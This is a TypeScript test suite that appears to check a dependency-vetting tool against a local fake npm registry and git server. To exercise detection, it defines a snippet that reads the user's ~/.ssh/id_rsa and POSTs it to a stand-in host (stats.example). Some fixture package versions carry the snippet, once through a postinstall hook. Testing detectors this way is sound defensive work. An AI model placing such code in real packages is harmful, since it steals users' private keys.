// Projects as they lie in repositories, releases and folders: played with what they need, which a registry on loopback hands out.
import { writeFileSync } from 'node:fs'
import { mkdir, readdir, readFile, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import type { VetPart } from '../../src/core/model/vetting.ts'
import { verdictOf } from '../../src/core/vet/verdict.ts'
import { integrityOf, pack, packed, type Published, type Registry, startRegistry } from '../store/registry.ts'
import { makePlace, type Place } from '../store/world.ts'
import { type GitServer, startGitServer } from './git-server.ts'
import { lookAtTarget, playTarget } from './play-target.ts'
import { serverFolder, type Doing } from './servers.ts'

const POST = `const { request } = require('node:http'), { readFileSync } = require('node:fs'), { homedir } = require('node:os')
request('http://stats.example/', { method: 'POST' }).on('error', () => {}).end(readFileSync(homedir() + '/.ssh/id_rsa'))
`
const words = (version: string, code: string, more: object = {}): Published => ({
  manifest: { name: 'words', version, main: 'index.js', ...more },
  files: { 'index.js': `${code}module.exports = 'Beans.'\n`, 'setup.js': POST },
})
/** The first of them steals; the newest is honest. */
const PUBLISHED = [
  words('1.0.0', POST),
  words('1.1.0', ''),
  words('2.0.0', POST),
  words('3.0.0', '', { scripts: { postinstall: 'node setup.js' } }),
  { manifest: { name: 'built', version: '1.0.0', main: 'index.js' }, files: { 'index.js': '', 'binding.gyp': '{}' } },
  { manifest: { name: 'phrases', version: '1.0.0', dependencies: { words: '3.0.0' } } },
]
const HONEST = { words: '^1.0.0' }
const THIEF = { words: '^2.0.0' }
const using = (dependencies: object, more: Doing = {}): Doing => ({
  start: `await import('words')`,
  ...more,
  manifest: { dependencies, ...more.manifest },
})

let place: Place
let registry: Registry
let server: GitServer
beforeAll(async () => {
  place = await makePlace()
  registry = await startRegistry(PUBLISHED)
  server = await startGitServer(place.folder)
  await writeFile(join(place.folder, '.npmrc'), `registry=${registry.url}\nfetch-retries=0\n`)
})
afterAll(async () => {
  server.close()
  await registry.close()
  await place.dispose()
})

// The one host that is asked is this test.
const played = (target: string): Promise<VetPart> =>
  playTarget(target, place, {}, { own: [server.origin], certificates: [server.certificate], whyNot: () => null })

/** `files` lie beside the server. */
async function folder(name: string, doing: Doing, files: Readonly<Record<string, string>> = {}): Promise<string> {
  const made = await serverFolder(join(place.folder, 'made'), name, doing)
  for (const [path, text] of Object.entries(files)) {
    await mkdir(join(made, path, '..'), { recursive: true })
    await writeFile(join(made, path), text)
  }
  return made
}

const textsIn = async (made: string): Promise<Record<string, string>> =>
  Object.fromEntries(
    await Promise.all((await readdir(made)).map(async (name) => [name, await readFile(join(made, name), 'utf8')])),
  )

const SOURCES = {
  folder: (made: string) => Promise.resolve(made),
  repository: async (made: string) => {
    const [branch, texts] = [made.split('/').at(-1)!, await textsIn(made)]
    // All of it at once: others play beside this, and there is one working tree.
    server.git('checkout', '-q', '--orphan', branch)
    for (const [name, text] of Object.entries(texts)) writeFileSync(join(server.work, name), text)
    server.git('add', '.')
    server.git('commit', '-q', '-m', 'one')
    return `git+${server.origin}/work@${branch}`
  },
  release: async (made: string) => {
    const path = `/${made.split('/').at(-1)!}.tar.gz`
    server.files.set(path, pack(await textsIn(made)))
    return `${server.origin}${path}`
  },
} as const

const LOCK = JSON.stringify({
  name: 'notes',
  lockfileVersion: 3,
  packages: {
    '': { name: 'notes', version: '1.0.0', dependencies: HONEST },
    'node_modules/words': {
      version: '1.0.0',
      resolved: 'https://elsewhere.test/words.tgz',
      integrity: integrityOf(packed(PUBLISHED[0]!)),
    },
  },
})

describe.concurrent.each(Object.entries(SOURCES))('a %s', (kind, sourceOf) => {
  test('whose dependency steals is malicious', async () => {
    const part = await played(await sourceOf(await folder(`${kind}-thief`, using(THIEF))))
    expect(part.report.findings.map(({ rule }) => rule)).toContain('bait-sent')
    expect(verdictOf([part])).toBe('malicious')
  })

  test('whose dependency is honest passes', async () => {
    const part = await played(await sourceOf(await folder(`${kind}-honest`, using(HONEST))))
    expect(part.report).toMatchObject({ findings: [], unanswered: [] })
    expect(verdictOf([part])).toBe('no-finding')
  })
})

describe.concurrent('a project', () => {
  test('is played with what its lock names, and not with what is newest', async () => {
    const part = await played(await folder('locked', using(HONEST), { 'package-lock.json': LOCK }))
    expect(part.report.unanswered).toEqual([])
    expect(verdictOf([part])).toBe('malicious')
  })

  test('is played with the install scripts of what it needs', async () => {
    const part = await played(await folder('scripted', using({ words: '3.0.0' })))
    expect(JSON.stringify(part.report.findings)).toContain('the install script')
    expect(verdictOf([part])).toBe('malicious')
  })

  test.each<[string, object]>([
    ['what its packages need for themselves alone', { words: '1.1.0', phrases: '1.0.0' }],
    ['a package that it calls otherwise', { others: 'npm:words@3.0.0', words: '1.1.0' }],
  ])('is played with the install scripts of %s', async (what, needs) => {
    const part = await played(await folder(`runs-${what.replaceAll(' ', '-')}`, using(needs)))
    expect(JSON.stringify(part.report.findings)).toContain('the install script')
    expect(verdictOf([part])).toBe('malicious')
  })

  test('says that what would be built when it is installed was not played', async () => {
    const part = await played(await folder('built-by-gyp', using({ built: '1.0.0' })))
    expect(part.report.unanswered).toContainEqual(
      expect.objectContaining({ why: expect.stringContaining('1 install script, not played') as string }),
    )
  })

  test('is read with what it needs', async () => {
    const { read } = await lookAtTarget(await folder('read', using(THIEF)), place)
    expect(read.report.looked).toContainEqual(expect.stringContaining('1 package that it depends on'))
    expect(read.coverage).toEqual([{ what: 'files', seen: 5, of: 5 }])
  })

  test('with packages of its own is played as it lies', async () => {
    const own = { 'node_modules/words/index.js': POST, 'node_modules/words/package.json': '{"name":"words"}' }
    expect(verdictOf([await played(await folder('own', using(HONEST), own))])).toBe('malicious')
  })

  test.each<[string, Doing, Readonly<Record<string, string>>, string]>([
    ['a lock of others', using(HONEST), { 'pnpm-lock.yaml': '' }, 'the versions that its pnpm-lock.yaml names'],
    ['an old lock', using(HONEST), { 'package-lock.json': '{"lockfileVersion":1}' }, 'its package-lock.json names'],
    ['a broken lock', using(HONEST), { 'package-lock.json': '{' }, 'the package-lock.json in '],
    ['a lock that is no object', using(HONEST), { 'package-lock.json': '[]' }, 'is no JSON object'],
    ['a repository among what it needs', using({ words: 'git+https://x.test/y' }), {}, 'and not from a registry'],
    ['something that nobody has', using({ gone: '1.0.0' }), {}, 'the registry does not have it'],
    [
      'a start that has to be built',
      { manifest: { main: 'dist/index.js', scripts: { build: 'tsc' } } },
      {},
      'its script \\"build\\" may make it first, and nothing is built here',
    ],
  ])('with %s is incomplete', async (what, doing, files, why) => {
    const part = await played(await folder(`is-${what.replaceAll(' ', '-')}`, doing, files))
    expect(JSON.stringify(part.report.unanswered)).toContain(why)
    expect(verdictOf([part])).toBe('incomplete')
  })
})
